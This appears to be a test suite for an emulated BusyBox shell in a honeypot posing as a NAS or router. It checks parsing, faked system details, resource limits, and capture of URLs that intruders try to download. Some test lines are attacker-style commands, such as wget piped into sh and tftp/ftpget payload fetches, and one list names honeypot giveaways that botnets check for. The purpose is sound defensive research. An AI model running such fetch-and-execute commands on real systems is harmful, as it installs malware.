import { describe, expect, it } from 'vitest';
import { router } from '../../firmware/personas/computers/router.ts';
import { machineOf } from '../../firmware/sensors/shell/machine.ts';
import { createShell, type Shell } from '../../firmware/sensors/shell/shell.ts';
import { deriveOf as derive } from './shell-rig.ts';

const NOW = Date.UTC(2026, 0, 2, 3, 4, 5);
const machine = machineOf({ computer: router, derive: derive('one') }, 'nas');
const shell = (username = 'root'): Shell => createShell({ machine, username, from: '192.0.2.7', now: () => NOW });

/** What the last of these lines writes. */
function output(...lines: readonly string[]): string {
  const one = shell();
  return lines.map((line) => one.run(line).output).at(-1) ?? '';
}

describe('shell: the language', () => {
  it.each([
    ['echo a; echo b', 'a\nb\n'],
    ['true && echo yes || echo no', 'yes\n'],
    ['false && echo yes || echo no', 'no\n'],
    ['! false && echo yes', 'yes\n'],
    ['(echo a; false) || echo b', 'a\nb\n'],
    ['cd /tmp; (cd /; pwd); pwd', '/\n/tmp\n'],
    ['echo a | cat', 'a\n'],
    ["printf 'b\\na\\nb\\n' | grep b | wc -l", '2\n'],
    ['echo a b   c', 'a b c\n'],
    [`echo "a  b" 'c  $HOME' d\\ \\ e`, 'a  b c  $HOME d  e\n'],
    ['x=1; y="$x 2"; echo $x "$y" ${x}3 $z.', '1 1 2 13 .\n'],
    ['x=\'a   b\'; echo $x "$x"', 'a b a   b\n'],
    ['echo $(echo a; echo b) `echo c`', 'a b c\n'],
    ['false; echo $?; echo $?', '1\n0\n'],
    ['echo ~ ~/x "~"', '/root /root/x ~\n'],
    ['echo a#b #c', 'a#b\n'],
    ['echo a >/tmp/f; echo b >>/tmp/f; cat </tmp/f', 'a\nb\n'],
    ['ls /nothing >/dev/null 2>&1; echo $?', '1\n'],
    ['ls /nothing 2>/tmp/e; cat /tmp/e', 'ls: /nothing: No such file or directory\n'],
    ['echo a & echo b', 'a\nb\n'],
    ["sh -c 'echo in; exit 3'; echo $?", 'in\n3\n'],
    ['echo "echo from pipe" | sh', 'from pipe\n'],
    ["eval 'echo evaluated'", 'evaluated\n'],
    ['[ 5 -gt 7 ] && echo wrong; [ $(id -u) -eq 0 ] && echo root', 'root\n'],
    ['[ ! -f /nope ] && [ -d /tmp -a -e /etc/passwd ] && [ a != b ] && echo so', 'so\n'],
    ['[[ $USER == ro* ]] && echo so; [[ abc =~ ^ab ]] && echo so', 'so\nso\n'],
    ['x=abcde; echo ${#x} ${x:1:2} ${x#ab} ${x%de} ${x/b/_}', '5 bc cde abc a_cde\n'],
    ['y=/a/b.c.d; echo ${y##*/} ${y%/*} ${y%%.*} ${y#*.}', 'b.c.d /a /a/b c.d\n'],
    ['echo ${z:-def} ${z-$USER} ${USER:+set} ${z:=new} $z', 'def root set new new\n'],
    ['cat <<< "a $USER"', 'a root\n'],
    ['cat << END\na $USER\n`echo b`\nEND\necho after', 'a root\nb\nafter\n'],
    ["cat << 'END' > /tmp/s\n$USER\nEND\ncat /tmp/s", '$USER\n'],
    ['cat <<-END; echo c\n\ta\n\tEND\necho d', 'a\nc\nd\n'],
    ['cat << A; cat << B\na\nA\nb\nB', 'a\nb\n'],
    ['echo "1 2 3" | while read a b; do echo $b-$a; done', '2 3-1\n'],
    ['head -c 5 /dev/urandom | wc -c; head -c 3 /dev/zero | wc -c', '5\n3\n'],
    ['dd if=/dev/zero of=/tmp/z bs=1k count=2; cat /tmp/z | wc -c', '2+0 records in\n2+0 records out\n2048\n'],
    ['ping -c 1 127.0.0.1 | grep -c "1 packets received"', '1\n'],
  ])('%s', (line, expected) => expect(output(line)).toBe(expected));

  it('takes a here-document line by line, and prompts for the next', () => {
    const one = shell();
    expect(one.run('cat << END | wc -l').output).toBe('');
    expect(one.prompt).toBe('> ');
    for (let line = 0; line < 40; line += 1) expect(one.run(`line ${line}`).output).toBe('');
    expect(one.run('END').output).toBe('40\n');
    expect(one.prompt).not.toBe('> ');
  });

  it('dies of kill -9 as a shell does, and not of kill', () => {
    expect(shell().run('kill $$').ended).toBe(false);
    expect(shell().run('kill -9 $$; echo more')).toMatchObject({ ended: true, output: '' });
  });

  it('answers nonsense as ash does', () => {
    expect(output('echo a; ; echo b')).toBe('-sh: syntax error: unexpected ";"\n');
    expect(output('| x')).toBe('-sh: syntax error: unexpected "|"\n');
    expect(output('&& x')).toBe('-sh: syntax error: unexpected "&&"\n');
    expect(output('x >')).toBe('-sh: syntax error: unexpected newline\n');
    expect(output('echo )')).toBe('-sh: syntax error: unexpected ")"\n');
    expect(output('nonsense')).toBe('-sh: nonsense: not found\n');
    expect(output('/bin/nonsense')).toBe('-sh: /bin/nonsense: not found\n');
    expect(output('/etc/passwd')).toBe('-sh: /etc/passwd: Permission denied\n');
    expect(output('constructor; toString; __proto__')).toBe(
      '-sh: constructor: not found\n-sh: toString: not found\n-sh: __proto__: not found\n',
    );
  });

  it('prompts for more where something is open', () => {
    const one = shell();
    expect([one.prompt, one.run('echo "a').output, one.prompt]).toEqual(['~ # ', '', '> ']);
    expect([one.run('b" &&').output, one.prompt]).toEqual(['', '> ']);
    expect([one.run('echo c').output, one.prompt]).toEqual(['a\nb\nc\n', '~ # ']);
    one.run("echo 'x");
    one.interrupt();
    expect([one.prompt, one.run('echo y').output]).toEqual(['~ # ', 'y\n']);
  });

  it('is left by exit, one shell after the other', () => {
    const one = shell();
    one.run('cd /var/tmp; sh');
    expect(one.prompt).toBe('/var/tmp # ');
    expect(one.run('exit; echo never')).toMatchObject({ output: '', ended: false });
    expect(one.run('(exit); $(exit); sh -c exit; echo still')).toMatchObject({
      output: 'still\n',
      ended: false,
    });
    expect(one.run('exit 3; echo never')).toMatchObject({ output: '', ended: true });
    expect(shell().run('logout').ended).toBe(true);
  });
});

describe('shell: the commands', () => {
  it.each([
    ["echo -e '\\x41\\102\\0103\\n\\tz\\c' x", 'ABC\n\tz'],
    ['echo -n a -e b', 'a -e b'],
    ['echo -ne "\\x41\\x4g\\\\n"', 'A\x04g\n'],
    ["echo '\\x41' -x", '\\x41 -x\n'],
    ['/bin/busybox MIRAI', 'MIRAI: applet not found\n'],
    ['/bin/busybox echo -en "\\x31"', '1'],
    ['busybox busybox curl', 'curl: applet not found\n'],
    ['cat /nonexist', "cat: can't open '/nonexist': No such file or directory\n"],
    ['cd /nonexist', "-sh: cd: can't cd to /nonexist\n"],
    ['rm nonexist', "rm: can't remove 'nonexist': No such file or directory\n"],
    ['echo x > /etc/x', "-sh: can't create /etc/x: Read-only file system\n"],
    ['echo x > /no/x', "-sh: can't create /no/x: nonexistent directory\n"],
    ['whoami; id -u; hostname', 'root\n0\nnas\n'],
    ['date', 'Fri Jan  2 03:04:05 UTC 2026\n'],
    ['cd /tmp; touch b a .c; ls; ls -a | head -n 2', 'a  b\n.\n..\n'],
    ['cd /tmp; echo 123 > a; cp a b; mv b c; cat c; ls', '123\na  c\n'],
    ['mkdir /tmp/d; cd /tmp/d && pwd; rmdir; rm -r /tmp/d; cd /tmp/d', expect.stringContaining("can't cd to /tmp/d\n")],
    ['cp /bin/busybox /tmp/b; dd if=/tmp/b bs=4 count=1', '\x7fELF1+0 records in\n1+0 records out\n'],
    ['[ -f /etc/passwd ] && [ -d /tmp ] && [ ! ] || test a = a && echo ok', 'ok\n'],
    ['which wget nothing; echo $?', '/usr/bin/wget\n1\n'],
    [
      'echo "echo ran" > /tmp/s; sh /tmp/s; /tmp/s; chmod +x /tmp/s; /tmp/s',
      'ran\n-sh: /tmp/s: Permission denied\nran\n',
    ],
  ])('%s', (line, expected) => expect(output(line)).toEqual(expected));

  it('every command says something sensible and throws nothing, also at absurd arguments', () => {
    const names = output('busybox --list').trim().split('\n');
    expect(names.length).toBeGreaterThan(35);
    for (const name of [...names, 'cd', 'export', 'set', 'unset', 'eval', 'ulimit', 'umask', 'curl', 'logout']) {
      for (const args of [
        '',
        '-',
        '--',
        '-z',
        '-n',
        '-x -y',
        '/',
        "''",
        '/tmp /tmp',
        '=',
        '%s %d %',
        'a '.repeat(300),
      ]) {
        expect(typeof shell().run(`${name} ${args}`).output).toBe('string');
        expect(typeof shell().run(`${name} ${args} | ${name} ${args} > /tmp/x; echo $?`).output).toBe('string');
      }
    }
  });

  it('tells one machine, in every place the same', () => {
    const uname = output('uname -a');
    expect(uname).toMatch(/^Linux nas \d\.\d+\.\d+ #\d \w{3} \w{3} [ \d]\d [\d:]{8} CST 201\d \w+ GNU\/Linux\n$/);
    expect(uname).toContain(output('uname -r').trim());
    expect(output('cat /proc/version')).toContain(output('uname -v').trim());
    const total = /MemTotal: +(\d+)/.exec(output('cat /proc/meminfo'))?.[1];
    expect(output('free')).toMatch(new RegExp(`^Mem: +${total} `, 'm'));
    expect(output('mount').split('\n').length).toBe(output('cat /proc/mounts').split('\n').length);
    expect(output('cat /proc/uptime')).toMatch(/^\d+\.\d\d \d+\.\d\d\n$/);
  });

  it('is another machine on another device', () => {
    const tales = ['one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight'].map((device) => {
      const other = machineOf({ computer: router, derive: derive(device) }, 'nas');
      const one = createShell({ machine: other, username: 'root', from: '', now: () => NOW });
      return one.run('uname -a; uptime; cat /proc/cpuinfo; cat /bin/echo').output;
    });
    expect(new Set(tales).size).toBe(tales.length);
    const again = machineOf({ computer: router, derive: derive('one') }, 'nas');
    expect({ ...again, derive: null }).toEqual({ ...machine, derive: null });
  });

  it('has the visitor in its accounts, but no name that is none', () => {
    expect(shell('admin').run('whoami; id; grep admin /etc/passwd').output).toBe(
      'admin\nuid=0(admin) gid=0(root)\nadmin:x:0:0:admin:/root:/bin/sh\n',
    );
    expect(shell('x:0:0\nroot2').run('whoami; cat /etc/passwd').output).not.toContain('root2');
  });

  it('shows none of what gives other honeypots away (ZHtrap looks for these)', () => {
    const said = output('ls /home; ps; cat /etc/passwd; ls -la /; uname -a; cat /proc/version');
    expect(said).not.toMatch(/Jun22|Jun23|phil|sshd:|richard|@LocalHost:\]|EmbyLinux/);
  });
});

describe('shell: what was to be fetched', () => {
  const urls = (...lines: readonly string[]): readonly string[] => {
    const one = shell();
    return lines.map((line) => one.run(line).urls).at(-1) ?? [];
  };

  it.each([
    ['wget http://192.0.2.1/a.sh', ['http://192.0.2.1/a.sh']],
    ['wget -q -O - 192.0.2.1:81/b | sh', ['http://192.0.2.1:81/b']],
    ['cd /nonexist && wget http://192.0.2.1/never-reached', ['http://192.0.2.1/never-reached']],
    ['curl -s -o x -A "Mozilla" example.org/c', ['http://example.org/c']],
    ['tftp -g -l l -r r 192.0.2.1', ['tftp://192.0.2.1/r']],
    ['tftp 192.0.2.1 -c get t', ['tftp://192.0.2.1/t']],
    ['ftpget -v -u u -p p -P 21 192.0.2.1 local remote', ['ftp://192.0.2.1/remote']],
    ['sh -c \'wget http://a/1; curl "http://b/2"\'', ['http://a/1', 'http://b/2']],
    ['h=192.0.2.1; wget http://$h/x', ['http://$h/x', 'http://192.0.2.1/x']],
    ['echo wget http://a/1 > /tmp/s', ['http://a/1']],
    ['wget; tftp; ftpget; curl', []],
  ])('%s', (line, expected) => expect(urls(line)).toEqual(expected));

  it('is noted from a script that was dropped before', () => {
    expect(urls('echo "wget 192.0.2.1/x" > /tmp/s', 'sh /tmp/s')).toEqual(['http://192.0.2.1/x']);
  });

  it('is a bounded list', () => {
    expect(urls(Array.from({ length: 100 }, (_, at) => `wget http://a/${at}`).join(';'))).toHaveLength(16);
  });
});

describe('shell: bounds', () => {
  it('writes at most 64 kB for one line', () => {
    const one = shell();
    for (const line of [
      'cat /bin/busybox /bin/busybox '.repeat(200),
      'busybox; '.repeat(300),
      `x=${'y'.repeat(4000)}; ${'x=$x$x$x$x; '.repeat(100)} echo ${'$x '.repeat(200)}`,
      `echo ${'$(cat /bin/busybox /bin/busybox)'.repeat(100)}`,
      'ls -laR / /bin /bin /bin /bin '.repeat(100),
    ]) {
      expect(one.run(line).output.length).toBeLessThanOrEqual(64 * 1024);
    }
  });

  it('runs at most 256 commands for one line, whoever starts them', () => {
    expect(output('echo a;'.repeat(500)).length).toBe(512);
    expect(output(`${`${'busybox '.repeat(99)} true;`.repeat(3)} echo a`)).toBe('');
    expect(output(`${`${'busybox '.repeat(99)} true;`.repeat(2)} echo a`)).toBe('a\n');
    expect(output(`echo 'sh /tmp/s; sh /tmp/s; echo x' > /tmp/s`, 'sh /tmp/s').length).toBeLessThanOrEqual(512);
  });

  it('keeps at most 256 kB of files, 64 of them, and gives room back', () => {
    const one = shell();
    const block = 'z'.repeat(4000);
    const last = Array.from({ length: 80 }, () => one.run(`echo ${block} >> /tmp/big; echo $?`).output);
    expect(last.filter((status) => status === '0\n').length).toBe(Math.floor((256 * 1024) / 4001));
    one.run('rm /tmp/big');
    expect(one.run(`echo ${block} > /tmp/big; cat /tmp/big | wc -c`).output).toBe('4001\n');
    const made = Array.from({ length: 80 }, (_, at) => one.run(`> /tmp/f${at}`).output);
    expect(made.filter((said) => said !== '')).toEqual(
      made.slice(63).map((_, at) => `-sh: can't create /tmp/f${at + 63}: No space left on device\n`),
    );
  });

  it('gives up a quote that is never closed', () => {
    const one = shell();
    one.run("echo '");
    const said = Array.from({ length: 40 }, () => one.run('${a:'.repeat(1000)).output);
    expect(said.findIndex((text) => text !== '')).toBe(14);
    expect(said[14]).toBe('-sh: syntax error: unterminated quoted string\n');
  });

  it('survives brackets, substitutions and quotes without end', () => {
    for (const open of [
      '(',
      '$(',
      '`',
      '"',
      "'",
      '((((((((((',
      '\\',
      '${',
      '$((',
      '<(',
      '!',
      '! ! !',
      '&',
      '>>>',
      '<<<',
    ]) {
      for (const text of [open, open.repeat(1000), `echo ${open.repeat(50)} a`, `${open} echo a ${open}`]) {
        expect(typeof shell().run(text).output).toBe('string');
      }
    }
    expect(output(`${'$('.repeat(30)}echo a${')'.repeat(30)}`)).not.toContain('RangeError');
  });

  it('throws nothing at random bytes', () => {
    const bytes = derive('random')('bytes', 64 * 1024).toString('latin1');
    const one = shell();
    for (let at = 0; at < bytes.length; at += 61)
      expect(typeof one.run(bytes.slice(at, at + 61)).output).toBe('string');
    const grammar = [
      'a',
      ' ',
      ';',
      '|',
      '&',
      '(',
      ')',
      '<',
      '>',
      '"',
      "'",
      '`',
      '$',
      '\\',
      '{',
      '}',
      '#',
      '!',
      '=',
      '~',
      '\n',
    ];
    for (let seed = 1; seed < 4000; seed += 1) {
      let state = seed;
      const next = (): string => grammar[(state = (state * 1_103_515_245 + 12_345) % 2 ** 31) % grammar.length] ?? '';
      one.interrupt();
      expect(typeof one.run(Array.from({ length: 24 }, next).join('')).output).toBe('string');
    }
  });
});
